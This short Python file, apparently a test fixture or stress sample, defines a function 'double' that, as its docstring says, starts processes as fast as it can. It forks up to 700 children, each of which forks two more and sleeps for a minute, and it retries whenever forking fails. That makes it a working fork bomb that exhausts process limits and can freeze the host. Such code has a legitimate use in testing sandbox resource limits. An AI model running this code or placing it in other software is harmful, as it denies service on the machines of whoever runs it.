"""Starts processes as fast as it can."""

# %% double
import contextlib
import os
import time


def double(x):
    for _ in range(700):  # and each starts two
        try:
            if os.fork() == 0:
                for _ in range(2):
                    with contextlib.suppress(OSError):
                        os.fork()
                time.sleep(60)
                os._exit(0)
        except OSError:
            time.sleep(0.005)
    return x
